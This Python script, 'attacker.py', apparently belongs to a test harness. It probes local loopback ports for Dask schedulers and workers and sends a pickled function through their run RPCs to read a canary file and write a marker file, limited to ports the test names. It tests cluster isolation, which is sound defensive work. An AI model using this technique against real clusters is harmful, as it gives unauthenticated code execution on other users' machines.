"""What a task with a network might do to a cluster on its machine: it speaks to all that listens.

Usage: attacker.py HOME CANARY MARK PORTS; prints a line of JSON for each listener that it finds and
that the file PORTS names: servers of others on this machine are let alone.
"""

import asyncio
import json
import socket
import sys
from pathlib import Path

LISTENS = "0A"
SECONDS = 4.0


def listeners():
    """Ports of this machine's loopback at which somebody listens (proc(5))."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == LISTENS:
                found.add(int(words[1].rpartition(":")[2], 16))
    return sorted(found)


def payload(home, canary, mark):
    """Runs where the listener is: reads a person's file, and writes another."""

    def run(**_):
        import os
        from pathlib import Path

        if os.environ.get("HOME") != home:
            return "somebody else's"
        Path(mark).write_text("written")
        return Path(canary).read_text()

    return run


async def spoken(address, security, run):
    """What a listener says to Dask's own words for running code, as scheduler or as worker."""
    from distributed.core import rpc
    from distributed.protocol.pickle import dumps

    said = []
    for word in ("run_function", "run"):
        given = security.get_connection_args("client") if security else {}
        try:
            async with rpc(address, timeout=SECONDS, connection_args=given) as there:
                sent = {"function": dumps(run), "args": dumps(()), "kwargs": dumps({})}
                sent |= {"wait": True} if word == "run" else {}
                answer = await asyncio.wait_for(getattr(there, word)(**sent), SECONDS)
                said.append(repr(answer))
        except Exception as error:  # noqa: BLE001 - whatever keeps it out
            said.append(f"{type(error).__name__}: {error}"[:200])
    return said


def as_client(address, run):
    """What a scheduler says to a client of Dask that asks it to run something."""
    from distributed import Client

    try:
        with Client(address, timeout=SECONDS) as client:
            return repr(client.run_on_scheduler(run))
    except Exception as error:  # noqa: BLE001 - whatever keeps it out
        return f"{type(error).__name__}: {error}"[:200]


def raw(port):
    """The first bytes that a listener says to bytes of another protocol, in hex."""
    try:
        with socket.create_connection(("127.0.0.1", port), SECONDS) as there:
            there.settimeout(SECONDS)
            there.sendall(b"GET /info/main/workers.html HTTP/1.0\r\n\r\n")
            return there.recv(64).hex()
    except OSError as error:
        return f"{type(error).__name__}"


async def all_spoken(ports, run):
    from distributed import Security

    asked = [(f"tcp://127.0.0.1:{port}", None) for port in ports]
    asked += [(f"tls://127.0.0.1:{port}", Security.temporary()) for port in ports]
    said = await asyncio.gather(*(spoken(address, key, run) for address, key in asked))
    return {address: words for (address, _), words in zip(asked, said, strict=True)}


def main():
    import warnings

    warnings.simplefilter("ignore")
    import dask

    dask.config.set({"logging": {"distributed": "critical"}})
    dask.config.set({"distributed.comm.retry.count": 0, "distributed.comm.timeouts.connect": "3s"})
    home, canary, mark, named = sys.argv[1:]
    run = payload(home, canary, mark)
    ports = [port for port in listeners() if port in json.loads(Path(named).read_text())]
    first = {port: raw(port) for port in ports}
    dask_like = [port for port in ports if not first[port].startswith(b"HTTP".hex())]
    said = asyncio.run(all_spoken(dask_like, run))
    for port in ports:
        tcp, tls = f"tcp://127.0.0.1:{port}", f"tls://127.0.0.1:{port}"
        spoken_ = [*said.get(tcp, ()), *said.get(tls, ())]
        client = as_client(tcp, run) if port in dask_like else ""
        one = {"port": port, "spoken": spoken_, "raw": first[port], "client": client}
        sys.stdout.write(json.dumps(one) + "\n")


if __name__ == "__main__":
    main()
